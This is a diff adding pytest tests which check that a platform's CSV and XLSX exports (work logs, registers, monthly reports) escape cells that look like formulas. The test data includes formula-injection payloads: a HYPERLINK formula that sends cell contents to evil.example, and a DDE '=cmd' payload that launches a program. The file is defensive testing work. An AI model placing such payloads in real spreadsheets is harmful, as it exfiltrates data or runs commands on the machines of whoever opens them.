@@ -1,0 +1,86 @@
+"""Every file the platform writes is safe to open: text that looks like a formula stays text (CSV and XLSX)."""
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from api.worklogs import csv_file
+from cases.report import to_xlsx
+from db.cells import FORMULA_START, csv_value, xlsx_row
+from registers.tabular import write_table
+
+EVIL = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "李四",
+]
+
+
+@pytest.mark.parametrize("text", EVIL)
+def test_a_csv_cell_never_starts_a_formula(text: str) -> None:
+    written = csv_value(text)
+    assert not written.startswith(FORMULA_START)
+    assert written == text if not text.startswith(FORMULA_START) else written == "'" + text
+    assert csv_value(-2) == -2 and csv_value(None) is None  # numbers are numbers
+
+
+def _cells(content: bytes) -> list[tuple[str, object]]:
+    book = load_workbook(io.BytesIO(content))
+    return [(cell.data_type, cell.value) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def test_an_xlsx_text_is_a_string_cell_that_reads_as_typed() -> None:
+    book = Workbook(write_only=True)
+    sheet = book.create_sheet()
+    sheet.append(xlsx_row(sheet, [*EVIL, "李\x1b[31m四", 3, None]))
+    out = io.BytesIO()
+    book.save(out)
+    cells = _cells(out.getvalue())
+    assert "f" not in {kind for kind, _ in cells}
+    typed = [text.replace("\r", "\n") for text in EVIL]  # XML reads a carriage return as a line end
+    assert [value for _, value in cells][:8] == [*typed, "李[31m四"]  # the ESC an XLSX cannot hold is left out
+    assert cells[8] == ("n", 3)
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_a_register_export_holds_no_formula(tmp_path: Path, suffix: str) -> None:
+    path = tmp_path / f"people{suffix}"
+    write_table(path, ["name", "note"], [[text, "x"] for text in EVIL])
+    if suffix == ".xlsx":
+        assert "f" not in {kind for kind, _ in _cells(path.read_bytes())}
+        return
+    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
+    assert all(not cell.startswith(FORMULA_START) for row in rows for cell in row)
+
+
+def test_a_work_log_or_close_out_csv_holds_no_formula() -> None:
+    answer = csv_file("worklog-gw-1-2026-12-06", ["at", "what", "detail"], [["09:00", "note", text] for text in EVIL])
+    rows = list(csv.reader(io.StringIO(bytes(answer.body).decode("utf-8-sig"), newline="")))
+    assert rows[0] == ["at", "what", "detail"] and len(rows) == len(EVIL) + 1
+    assert all(not cell.startswith(FORMULA_START) for row in rows for cell in row)
+
+
+def test_the_monthly_report_workbook_holds_no_formula() -> None:
+    figures = {
+        "received": 1, "filed": 1, "due": 1, "closed": 1, "closed_on_time": 1, "closure_rate": 1.0,
+        "on_time_closure_rate": 1.0, "rework_rate": None, "extension_rate": None, "overdue": 0, "appeals_upheld": 0,
+        "change": {"on_time_closure_rate": None},
+    }  # fmt: skip
+    report = {
+        "name": "=cmd|' /C calc'!A0", "month": "2026-11", "area": "321111", "from": "2026-11-01",
+        "to": "2026-11-30", "computed_at": "2026-12-01 09:00", "complete": True, "total": figures,
+        "appeals_upheld": [{"id": "x", "appellant": "@gw-1", "decided_by": "-district", "decided_at": None}],
+        "children": [figures | {"rank": 1, "code": "321111001", "name": EVIL[0], "grade": "+", "colour": None}],
+        "units": [figures | {"unit": "=1+1", "sign_in_on_time_rate": 1.0}],
+        "gridworkers": [], "overdue_cases": [],
+    }  # fmt: skip
+    cells = _cells(to_xlsx(report, "Asia/Shanghai"))
+    assert "f" not in {kind for kind, _ in cells}
+    assert EVIL[0] in {value for _, value in cells}  # written as typed, as text
